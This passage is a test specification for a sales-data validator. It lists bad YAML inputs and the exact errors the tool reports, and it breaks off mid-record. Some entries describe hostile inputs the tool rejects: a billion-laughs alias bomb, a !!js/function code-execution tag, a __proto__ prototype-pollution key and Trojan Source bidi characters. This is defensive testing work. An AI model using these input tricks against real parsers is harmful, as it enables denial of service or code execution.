/**
 * The bad-input corpus, as a specification: test/corpus/yaml/<name>.<kind>.yaml and
 * test/corpus/csv/<name>.csv (+ <name>.map.yaml) are what a real team could produce or an
 * attacker could send. Each row of the tables below names a file, says what it is, and gives
 * exactly what capaian says about it: every issue line (`file:line:column  message  (hint)`) or,
 * where the input is valid, the exact values read or written.
 *
 * - A YAML file is laid over an in-memory copy of test/fixtures/valid/ at the path its name says
 *   (see placeOf: month kinds go to data/2026/03/, targets to data/targets/2026.yaml, kpi to
 *   kpis/<name>.yaml) and the repository is validated.
 * - A CSV file is imported with importCommand into such a copy, for April 2026 (no month file
 *   yet), with its mapping when the corpus has one.
 *
 * Every case also checks that nothing threw and that every record is accounted for: kept, or
 * refused with an issue pointing into it (YAML); used, dated outside the month or left out by
 * where, and all written (CSV); never silently dropped. Big and hostile inputs that must not be
 * committed (50 MB files, symlinks, a FIFO) are made at run time, below the tables.
 */
import { execFileSync } from 'node:child_process';
import { cpSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importCommand, nodeImportEffects } from '../../src/commands/import.ts';
import { recordingEffects } from '../../src/commands/effects.ts';
import type { MonthKind } from '../../src/ingest/chunk.ts';
import { idHash } from '../../src/ingest/id-hash.ts';
import { parseYaml } from '../../src/load/parse-yaml.ts';
import { readRepoFiles } from '../../src/load/read-repo.ts';
import { validateRepo, type ValidationResult } from '../../src/validate/validate-repo.ts';
import { customerSchema } from '../../src/schema/customers.ts';
import {
  accountFor,
  baseFiles,
  CORPUS,
  corpusBytes,
  countRecords,
  exampleText,
  importCounts,
  chunkFrom,
  keptFrom,
  MONTH_KINDS,
  placeOf,
  ROOT,
  runImport,
  shownIssue,
  toSourceFiles,
  validateWith,
  type ImportRun,
} from './support.ts';
import { chunkOf, linesOfChunk, rowsOfChunk, rowsOfRecords, type RecordOf } from '../support/month-records.ts';

const dec = new TextDecoder();

// ---------------------------------------------------------------------------------------------
// YAML: each file validated in place; `expect` is every issue, in the order validate prints them.
// `records`: how many the file holds and how many were kept ('refused': the file could not be
// read as records at all, and says so). `values`: the records kept from the file, exactly.
// ---------------------------------------------------------------------------------------------

interface YamlCase {
  file: string;
  what: string;
  expect: string[];
  records: { total: number; valid: number } | 'refused';
  values?: unknown;
}

const YAML_CASES: YamlCase[] = [
  {
    file: 'alias-bomb.orders.yaml',
    what: 'billion laughs: nine anchors of nine aliases each in an order note (9^9 "lol"s if expanded); refused at the first &anchor, nothing expanded',
    expect: [
      'data/2026/03/orders.yaml:8:8  YAML anchors and aliases (&name, *name) are not allowed in data files  (write the values out in full)',
    ],
    records: 'refused',
  },
  {
    file: 'ampersand-and-asterisk-in-names.customers.yaml',
    what: 'shop names with & and * ("Toko &Co", "Sinar *Best* Seller") look like anchors and aliases to a quick scan; they are text, kept as written',
    expect: [],
    records: { total: 5, valid: 5 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko Dua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'C3', name: 'Toko &Co', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C4', name: 'Sinar *Best* Seller & Sons', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C5', name: '*Promo* &amp; Diskon', region: 'jakarta', segment: 'retail', owner: 'andi' }],
  },
  {
    file: 'bidi-and-invisible-characters.customers.yaml',
    what: 'names holding a right-to-left override (Trojan Source), isolates and a zero-width space: valid text, kept code point for code point',
    expect: [],
    records: { total: 5, valid: 5 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko Dua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'C3', name: 'Toko \u202eakgnuS\u202c Jaya', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C4', name: '\u2066سوق\u2069 Pasar', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C5', name: 'Toko\u200bLima', region: 'jakarta', segment: 'retail', owner: 'andi' }],
  },
  {
    file: 'bom-in-the-middle.customers.yaml',
    what: 'two files concatenated: a byte order mark at the start of line 2',
    expect: [
      'data/customers.yaml:2:1  YAML syntax error: end of the stream or a document separator is expected  (check indentation and quoting on this line and the one before)',
    ],
    records: 'refused',
  },
  {
    file: 'cesu8-surrogates.customers.yaml',
    what: 'an emoji written as two UTF-16 surrogates encoded separately (CESU-8, as some Java and MySQL exports do)',
    expect: [
      'data/customers.yaml:2:25  file is not UTF-8 text (invalid byte 0xed)  (save it as UTF-8; names with accents saved as Latin-1 (Windows-1252) need re-saving)',
    ],
    records: 'refused',
  },
  {
    file: 'comments-only.activities.yaml',
    what: 'a month file with only comments: no records this month, valid',
    expect: [],
    records: { total: 0, valid: 0 },
  },
  {
    file: 'control-characters.customers.yaml',
    what: 'a bell (\\x07) and a terminal escape (\\x1b[31m) pasted into a name: located at the bell (fixed: js-yaml marks the end of the name, and the hint said to indent with spaces)',
    expect: [
      'data/customers.yaml:2:23  YAML syntax error: the stream contains non-printable characters  (remove the control character (often pasted from another program along with the text))',
    ],
    records: 'refused',
  },
  {
    file: 'cr-only-line-ends.customers.yaml',
    what: 'old Mac line ends (a lone CR): the records are read, and a problem in the third is located on line 3 (fixed: was 1:1)',
    expect: [
      'data/customers.yaml:3:56  segment "grosir" is not a known segment  (segments are listed in data/company.yaml under segments:)',
    ],
    records: { total: 3, valid: 3 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko Dua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'C3', name: 'Toko Tiga', region: 'jakarta', segment: 'grosir', owner: 'andi' }],
  },
  {
    file: 'crlf-errors.surveys.yaml',
    what: 'Windows line ends (CRLF) with problems: line and column are the same as with LF',
    expect: [
      'data/2026/03/surveys.yaml:5:10  score must be a whole score from 1 to 5, got 6  (survey scores are whole numbers 1 (very unhappy) to 5 (very happy))',
      'data/2026/03/surveys.yaml:6:3  coment is not a known field  (did you mean "comment"?)',
      'data/2026/03/surveys.yaml:7:53  score must be a whole score from 1 to 5, got 0  (survey scores are whole numbers 1 (very unhappy) to 5 (very happy))',
    ],
    records: { total: 3, valid: 1 },
    values: [{ id: 'S-1', date: '2026-03-10', customer: 'C1', score: 4 }],
  },
  {
    file: 'crlf.orders.yaml',
    what: 'Windows line ends (CRLF), a double-quoted note folded over two lines: valid',
    expect: [],
    records: { total: 1, valid: 1 },
    values: [{ id: 'SO-2026-03-0801', date: '2026-03-21', customer: 'C1', rep: 'andi', lines: [{ sku: 'TEH-1', qty: 10, price: 5000, discount: 0, kind: 'regular' }, { sku: 'TEH-2', qty: 2, price: 9000, discount: 0.1, kind: 'up-sell' }], note: 'Kirim sebelum jam 10' }],
  },
  {
    file: 'date-formats.team.yaml',
    what: 'joined/left written 01/01/2025, 2025-1-1, "15 Maret 2026" and with a time',
    expect: [
      'data/team.yaml:4:11  joined must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/team.yaml:8:11  joined must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/team.yaml:9:9  left must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/team.yaml:13:11  joined must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
    ],
    records: { total: 3, valid: 0 },
  },
  {
    file: 'datetimes.leads.yaml',
    what: 'created at 24:00, 09:60, a one-digit hour, a date without time, dd/mm/yyyy; an offset and seconds with milliseconds are fine',
    expect: [
      'data/2026/03/leads.yaml:2:23  created must be a real date-time YYYY-MM-DDTHH:MM[:SS][+07:00]  (write date-times as YYYY-MM-DDTHH:MM, e.g. 2026-03-04T09:15 (company time) or 2026-03-04T09:15+07:00)',
      'data/2026/03/leads.yaml:3:23  created must be a real date-time YYYY-MM-DDTHH:MM[:SS][+07:00]  (write date-times as YYYY-MM-DDTHH:MM, e.g. 2026-03-04T09:15 (company time) or 2026-03-04T09:15+07:00)',
      'data/2026/03/leads.yaml:4:23  created must be a real date-time YYYY-MM-DDTHH:MM[:SS][+07:00]  (write date-times as YYYY-MM-DDTHH:MM, e.g. 2026-03-04T09:15 (company time) or 2026-03-04T09:15+07:00)',
      'data/2026/03/leads.yaml:5:23  created must be a real date-time YYYY-MM-DDTHH:MM[:SS][+07:00]  (write date-times as YYYY-MM-DDTHH:MM, e.g. 2026-03-04T09:15 (company time) or 2026-03-04T09:15+07:00)',
      'data/2026/03/leads.yaml:8:23  created must be a real date-time YYYY-MM-DDTHH:MM[:SS][+07:00]  (write date-times as YYYY-MM-DDTHH:MM, e.g. 2026-03-04T09:15 (company time) or 2026-03-04T09:15+07:00)',
    ],
    records: { total: 8, valid: 3 },
    values: [{ id: 'L-1', created: '2026-03-02T09:00', source: 'referral', rep: 'andi', region: 'jakarta' }, { id: 'L-6', created: '2026-03-04T09:15+07:00', source: 'referral', rep: 'andi', region: 'jakarta' }, { id: 'L-7', created: '2026-03-04 09:15:30.250Z', source: 'referral', rep: 'andi', region: 'jakarta' }],
  },
  {
    file: 'decimal-commas.orders.yaml',
    what: 'decimals with a comma, the Indonesian way: qty 1,5, discount 0,1, price 8999,50',
    expect: [
      'data/2026/03/orders.yaml:7:12  lines[0].qty must be a positive integer, got "1,5"  (use a dot for decimals: 1.5)',
      'data/2026/03/orders.yaml:9:17  lines[0].discount must be a fraction between 0 and 1, got "0,1"  (use a dot for decimals: 0.1)',
      'data/2026/03/orders.yaml:12:14  lines[1].price must be an amount (a number >= 0), got "8999,50"  (use a dot for decimals: 8999.50)',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'duplicate-ids.surveys.yaml',
    what: 'two survey ids used twice in one file',
    expect: [
      'data/2026/03/surveys.yaml:3:9  survey id "S-1" is used twice; first at data/2026/03/surveys.yaml:1:9  (ids must be unique across all files; give one of them a new id)',
      'data/2026/03/surveys.yaml:4:9  survey id "S-2" is used twice; first at data/2026/03/surveys.yaml:2:9  (ids must be unique across all files; give one of them a new id)',
    ],
    records: { total: 4, valid: 4 },
    values: [{ id: 'S-1', date: '2026-03-10', customer: 'C1', score: 4 }, { id: 'S-2', date: '2026-03-11', customer: 'C2', score: 5 }, { id: 'S-1', date: '2026-03-12', customer: 'C1', score: 3 }, { id: 'S-2', date: '2026-03-13', customer: 'C2', score: 2 }],
  },
  {
    file: 'duplicate-keys-flow.customers.yaml',
    what: 'name: twice in one flow mapping',
    expect: [
      'data/customers.yaml:2:76  "name" appears twice in the same mapping  (each field may appear once per record; remove or rename the second one)',
    ],
    records: 'refused',
  },
  {
    file: 'duplicate-keys.orders.yaml',
    what: 'date: twice in one order (a correction added below instead of replacing)',
    expect: [
      'data/2026/03/orders.yaml:5:3  "date" appears twice in the same mapping  (each field may appear once per record; remove or rename the second one)',
    ],
    records: 'refused',
  },
  {
    file: 'emoji-and-rtl-names.customers.yaml',
    what: 'emoji (ZWJ family, flags), Arabic, Hebrew, mixed-direction, Javanese script and accented names: valid, kept as written',
    expect: [],
    records: { total: 10, valid: 10 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko Dua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'C3', name: 'Kedai Teh 🍵 Pak Joko', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C4', name: '👨\u200d👩\u200d👧\u200d👦 Warung Keluarga', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C5', name: 'مكتبة النور', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C6', name: 'חנות הפרחים של רותי', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'C7', name: 'Toko Al-Amin (متجر الأمين) 2', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C8', name: 'Café Müller', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C9', name: 'ꦠꦺꦴꦏꦺꦴ ꦱꦼꦠꦾ', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C10', name: '🇮🇩 Toko Merah Putih 🏳️\u200d🌈', region: 'bandung', segment: 'retail', owner: 'budi' }],
  },
  {
    file: 'empty.company.yaml',
    what: 'an empty company.yaml (0 bytes): the one file that may not be empty',
    expect: [
      'data/company.yaml  company.yaml is empty  (see README "Data layout" for what it holds)',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'empty.orders.yaml',
    what: 'an empty month file (0 bytes): no orders this month, valid',
    expect: [],
    records: { total: 0, valid: 0 },
  },
  {
    file: 'enum-typos.activities.yaml',
    what: 'activity types Contact, call, followup',
    expect: [
      'data/2026/03/activities.yaml:3:42  type must be contact, follow-up, meeting, won or lost, got "Contact"  (did you mean contact?)',
      'data/2026/03/activities.yaml:4:42  type must be contact, follow-up, meeting, won or lost, got "call"  (one of: contact, follow-up, meeting, won, lost)',
      'data/2026/03/activities.yaml:5:42  type must be contact, follow-up, meeting, won or lost, got "followup"  (did you mean follow-up?)',
    ],
    records: { total: 5, valid: 2 },
    values: [{ id: 'A-1', at: '2026-03-02T13:00', type: 'contact', rep: 'andi', lead: 'L-1' }, { id: 'A-2', at: '2026-03-05T10:00', type: 'won', rep: 'andi', lead: 'L-1', customer: 'C1' }],
  },
  {
    file: 'excel-serial-dates.surveys.yaml',
    what: 'dates pasted as Excel serial numbers (46091, "46092", 46093.375)',
    expect: [
      'data/2026/03/surveys.yaml:2:20  date must be a date YYYY-MM-DD, got 46091  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/2026/03/surveys.yaml:3:20  date must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/2026/03/surveys.yaml:4:20  date must be a date YYYY-MM-DD, got 46093.375  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
    ],
    records: { total: 3, valid: 0 },
  },
  {
    file: 'explicit-str-tags.customers.yaml',
    what: '!!str and quotes keep 0123, 2026, 0x1F and true as text: valid',
    expect: [],
    records: { total: 4, valid: 4 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko Dua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: '0123', name: '2026', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: '0x1F', name: 'true', region: 'jakarta', segment: 'retail', owner: 'andi' }],
  },
  {
    file: 'huge-numbers.orders.yaml',
    what: 'qty 99999999999999999999 (beyond safe integers), prices 1.0e+400 and 1e400 (read as text); a second order with qty 2^53-1 and a 30-digit price: above the maxima (fixed: was valid, and its line of 1.1e45 was summed into net sales)',
    expect: [
      'data/2026/03/orders.yaml:6:26  lines[0].qty must be a quantity of at most 1,000,000,000 (1e9), got 100000000000000000000  (at most 1e9 units on one line; look for extra digits, or split the line)',
      'data/2026/03/orders.yaml:7:36  lines[1].price must be an amount (a number >= 0), got "1.0e+400"  (write a plain number, without quotes)',
      'data/2026/03/orders.yaml:8:36  lines[2].price must be an amount (a number >= 0), got "1e400"  (write a plain number, without quotes)',
      'data/2026/03/orders.yaml:14:26  lines[0].qty must be a quantity of at most 1,000,000,000 (1e9), got 9007199254740991  (at most 1e9 units on one line; look for extra digits, or split the line)',
      'data/2026/03/orders.yaml:14:51  lines[0].price must be an amount of at most 1,000,000,000,000,000 (1e15), got 1.2345678901234568e+29  (amounts are at most 1e15, so that every total stays exact; look for extra digits or a pasted formula result)',
    ],
    records: { total: 2, valid: 0 },
  },
  {
    file: 'impossible-dates.surveys.yaml',
    what: '2026-02-31, 2026-02-29 (not a leap year), 2026-03-32, 2026-04-31, 31/02/2026, 2026-3-4, 2026-00-10',
    expect: [
      'data/2026/03/surveys.yaml:2:20  date must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/2026/03/surveys.yaml:3:20  date must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/2026/03/surveys.yaml:4:20  date must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/2026/03/surveys.yaml:5:20  date must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/2026/03/surveys.yaml:6:20  date must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/2026/03/surveys.yaml:7:20  date must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
      'data/2026/03/surveys.yaml:8:20  date must be a real date YYYY-MM-DD  (write dates as YYYY-MM-DD, e.g. 2026-03-04)',
    ],
    records: { total: 8, valid: 1 },
    values: [{ id: 'S-1', date: '2026-03-10', customer: 'C1', score: 4 }],
  },
  {
    file: 'invisible-characters-in-ids.customers.yaml',
    what: 'a zero-width space and a no-break space inside ids; a name wrapped in no-break spaces is trimmed, a name of only a zero-width space is kept',
    expect: [
      'data/customers.yaml:3:9  id must be an id (letters, digits, - _ .; at most 80), got "C3\u200b"  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/customers.yaml:4:9  id must be an id (letters, digits, - _ .; at most 80), got "C\u00a04"  (ids use letters, digits, "-", "_" and "."; no spaces)',
    ],
    records: { total: 6, valid: 4 },
    values: [{ id: 'C1', name: 'Toko Satu', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C2', name: 'Toko Dua', region: 'bandung', segment: 'retail', owner: 'budi' }, { id: 'C5', name: 'Toko Lima', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C6', name: '\u200b', region: 'jakarta', segment: 'retail', owner: 'andi' }],
  },
  {
    file: 'js-function-tag.orders.yaml',
    what: 'a !!js/function tag in a note (code execution in unsafe YAML loaders)',
    expect: [
      'data/2026/03/orders.yaml:5:63  YAML syntax error: unknown tag !<tag:yaml.org,2002:js/function>  (tags like !!binary or !foo are not used in data files; write plain values)',
    ],
    records: 'refused',
  },
  {
    file: 'kpi-crlf-tabs.kpi.yaml',
    what: 'a KPI saved with CRLF and tabs inside quoted text, with a misspelt lead source in its filter',
    expect: [
      'kpis/kpi-crlf-tabs.yaml:11:69  source "refferal" matches nothing: no such source  (did you mean "referral"?)',
    ],
    records: { total: 1, valid: 1 },
    values: { id: 'kpi-crlf-tabs', title: { id: 'Uji CRLF', en: 'CRLF test' }, description: { id: 'Berkas\tdisimpan di Windows.', en: 'Saved\ton Windows.' }, group: 'pipeline', unit: 'percent', direction: 'higher', grains: ['month', 'quarter', 'year'], frequency: 'monthly', goal: 'convert-more-leads', formula: { op: 'share', spec: { of: 'leads', where: { status: { in: ['won', 'lost'] }, source: 'refferal' } } }, breakdowns: [] },
  },
  {
    file: 'kpi-deep-formula.kpi.yaml',
    what: 'a formula of 40 nested ratios on one line: stopped at the depth limit',
    expect: [
      'kpis/kpi-deep-formula.yaml:7:342  YAML syntax error: nesting exceeded maxDepth (32)  (data files nest a few levels at most (limit 32))',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'kpi-emoji-rtl-titles.kpi.yaml',
    what: 'a KPI titled with emoji, Arabic and Hebrew: valid, kept as written',
    expect: [],
    records: { total: 1, valid: 1 },
    values: { id: 'kpi-emoji-rtl-titles', title: { id: '🎯 Prospek Menang', en: '🎯 Leads Won — نسبة الفوز' }, description: { id: 'Bagian prospek yang menang. 📈', en: 'The share of leads won. עברית and العربية kept as written.' }, group: 'pipeline', unit: 'percent', direction: 'higher', grains: ['month', 'quarter', 'year'], frequency: 'monthly', goal: 'convert-more-leads', owner: 'Tim 🚀 Sales', formula: { op: 'share', spec: { of: 'leads', where: { status: 'won' } } }, breakdowns: [{ by: 'source', field: 'source' }] },
  },
  {
    file: 'kpi-filter-constructor-field.kpi.yaml',
    what: 'a filter on "constructor", a name every JavaScript object has (fixed: was accepted and matched every lead)',
    expect: [
      'kpis/kpi-filter-constructor-field.yaml:9:45  field "constructor" does not exist in leads  (leads has: lead, created, rep, region, source, segment, status, customer, first_contact_at, won_at, lost_at, closed_at, first_contact_hours, first_touch_at, first_touch_hours, age_hours, days_to_win, days_first_contact_to_win)',
    ],
    records: { total: 1, valid: 1 },
    values: { id: 'kpi-filter-constructor-field', title: { id: 'Uji', en: 'Test' }, description: { id: 'Definisi uji dari korpus.', en: 'A corpus test definition.' }, group: 'pipeline', unit: 'percent', direction: 'higher', grains: ['month', 'quarter', 'year'], frequency: 'monthly', goal: 'convert-more-leads', formula: { op: 'share', spec: { of: 'leads', where: { constructor: 'won', status: 'won' } } }, breakdowns: [] },
  },
  {
    file: 'kpi-filter-empty-condition.kpi.yaml',
    what: 'status: {} in a filter, a comparison with nothing (fixed: was accepted and matched every lead)',
    expect: [
      'kpis/kpi-filter-empty-condition.yaml:9:40  formula.share.where.status must compare with something: eq, ne, in, not_in, lt, lte, gt, gte, exists or period',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'kpi-filter-operator-typo.kpi.yaml',
    what: 'status: { eqq: won }, a misspelt operator (fixed: was read as a nested filter and matched every lead)',
    expect: [
      'kpis/kpi-filter-operator-typo.yaml:9:42  formula.share.where.status.eqq is not a known field  (did you mean "eq"?)',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'kpi-filter-proto-key.kpi.yaml',
    what: '__proto__ as a filter key (fixed: zod dropped it without a word and the KPI counted every lead)',
    expect: [
      'kpis/kpi-filter-proto-key.yaml:12:7  formula.share.where.__proto__: "__proto__" cannot be used as a name  (remove it, or use the name you meant)',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'kpi-not-a-mapping.kpi.yaml',
    what: 'a KPI file that is a list',
    expect: [
      'kpis/kpi-not-a-mapping.yaml  file must be a mapping of fields (name: value), got a list of 2  (write the fields as name: value lines, not as a "-" list)',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'kpi-self-reference.kpi.yaml',
    what: 'a KPI whose formula refers to itself',
    expect: [
      'kpis/kpi-self-reference.yaml:9:3  KPIs refer to each other in a circle: kpi-self-reference -> kpi-self-reference  (one of them must be computed from data, not from the others)',
    ],
    records: { total: 1, valid: 1 },
    values: { id: 'kpi-self-reference', title: { id: 'Uji', en: 'Test' }, description: { id: 'Definisi uji dari korpus.', en: 'A corpus test definition.' }, group: 'pipeline', unit: 'percent', direction: 'higher', grains: ['month', 'quarter', 'year'], frequency: 'monthly', goal: 'convert-more-leads', formula: { op: 'ratio', numerator: { op: 'kpi', id: 'kpi-self-reference' }, denominator: { op: 'count', spec: { of: 'leads' } } }, breakdowns: [] },
  },
  {
    file: 'kpi-wrong-types.kpi.yaml',
    what: 'every top-level KPI field of the wrong type or value',
    expect: [
      'kpis/kpi-wrong-types.yaml:2:8  title must not be empty, got ""',
      'kpis/kpi-wrong-types.yaml:3:14  description must be text, or { id: …, en: … } with both languages, got a mapping',
      'kpis/kpi-wrong-types.yaml:4:8  group must be one of volume, value, pipeline, time, retention, team, got "sales"  (one of: volume, value, pipeline, time, retention, team)',
      'kpis/kpi-wrong-types.yaml:5:7  unit must be one of currency, percent, count, days, hours, score, per-day, got "rupiah"  (one of: currency, percent, count, days, hours, score, per-day)',
      'kpis/kpi-wrong-types.yaml:6:12  direction must be higher or lower, got "up"  (one of: higher, lower)',
      'kpis/kpi-wrong-types.yaml:7:9  grains must be a list, got "monthly"  (write a list: [a, b], or one "- " line per entry)',
      'kpis/kpi-wrong-types.yaml:8:12  frequency must be weekly, monthly, quarterly or yearly, got "daily"  (one of: weekly, monthly, quarterly, yearly)',
      'kpis/kpi-wrong-types.yaml:9:24  thresholds.at_risk must be between 0 and 1, got 1.5',
      'kpis/kpi-wrong-types.yaml:10:11  additive must be true or false, got "yes"',
      'kpis/kpi-wrong-types.yaml:11:16  maturity_days must be at least 0, got -1',
      'kpis/kpi-wrong-types.yaml:13:44  formula.percentile.p must be between 0 and 1, got 2',
      'kpis/kpi-wrong-types.yaml:14:14  breakdowns[0] must be a field name (lowercase, underscores), got "Region"',
      'kpis/kpi-wrong-types.yaml:14:22  breakdowns[1] must be a field name or { by: name, field: field }, got a mapping',
    ],
    records: { total: 1, valid: 0 },
  },
  {
    file: 'latin1-names.customers.yaml',
    what: 'names with accents saved as Latin-1 (Café José Muñoz)',
    expect: [
      'data/customers.yaml:3:22  file is not UTF-8 text (invalid byte 0xe9)  (save it as UTF-8; names with accents saved as Latin-1 (Windows-1252) need re-saving)',
    ],
    records: 'refused',
  },
  {
    file: 'line-separators-in-comments.orders.yaml',
    what: 'comment lines holding NEL (U+0085), LS (U+2028), PS (U+2029), a vertical tab and a form feed, each followed by what looks like an order line: YAML 1.2 ends a line only at LF, CRLF or a lone CR, so the text after them is comment, on every path (one-pass reader, scanner, js-yaml, fmt): valid, one order line',
    expect: [],
    records: { total: 1, valid: 1 },
    values: [{ id: 'SO-2026-03-0921', date: '2026-03-21', customer: 'C1', rep: 'andi', lines: [{ sku: 'TEH-1', qty: 10, price: 5000, discount: 0, kind: 'regular' }] }],
  },
  {
    file: 'lone-cr-before-record.orders.yaml',
    what: 'a lone CR ends a comment line and a one-line order follows it ("# dari cabang\\r- { id: … }"): the order is read (fixed: the one-pass reader took the line for comment and validate said ok with one order fewer)',
    expect: [],
    records: { total: 2, valid: 2 },
    values: [
      { id: 'SO-2026-03-0911', date: '2026-03-21', customer: 'C1', rep: 'andi', lines: [{ sku: 'TEH-1', qty: 10, price: 5000, discount: 0, kind: 'regular' }] },
      { id: 'SO-2026-03-0912', date: '2026-03-22', customer: 'C1', rep: 'andi', lines: [{ sku: 'TEH-2', qty: 1, price: 9000, discount: 0, kind: 'regular' }] },
    ],
  },
  {
    file: 'lone-cr-in-comment.orders.yaml',
    what: 'a lone CR ends a comment line and an order line follows it ("# tambahan\\r    - { sku: TEH-2, … price: 1400000 }"): the line is read, Rp 1.400.000 more net sales (fixed: the one-pass reader took it for comment, and fmt then "restored" it)',
    expect: [],
    records: { total: 2, valid: 2 },
    values: [
      { id: 'SO-2026-03-0901', date: '2026-03-21', customer: 'C1', rep: 'andi', lines: [{ sku: 'TEH-1', qty: 10, price: 5000, discount: 0, kind: 'regular' }, { sku: 'TEH-2', qty: 1, price: 1400000, discount: 0, kind: 'regular' }] },
      { id: 'SO-2026-03-0902', date: '2026-03-22', customer: 'C1', rep: 'andi', lines: [{ sku: 'TEH-1', qty: 2, price: 5000, discount: 0, kind: 'regular' }] },
    ],
  },
  {
    file: 'long-strings.customers.yaml',
    what: 'names of 500 (valid) and 501 characters, ids of 80 (valid) and 81, 500 emoji (valid) and "A" + 500 emoji; the message cuts the value at 57 UTF-16 units, between the two halves of an emoji',
    expect: [
      'data/customers.yaml:3:19  name must be at most 500 characters, got "Toko Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar…  (a name: text on one line, at most 500 characters)',
      'data/customers.yaml:5:9  id must be an id (letters, digits, - _ .; at most 80), got "C-123456789012345678901234567890123456789012345678901234…  (ids use letters, digits, "-", "_" and "."; no spaces)',
      'data/customers.yaml:7:19  name must be at most 500 characters, got "A🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵🍵\ud83c…  (a name: text on one line, at most 500 characters)',
    ],
    records: { total: 6, valid: 3 },
    values: [{ id: 'C1', name: 'Toko Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya Sembako Sinar Jaya S', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C-123456789012345678901234567890123456789012345678901234567890123456789012345678', name: 'Toko Delapan Puluh', region: 'jakarta', segment: 'retail', owner: 'andi' }, { id: 'C5', name: 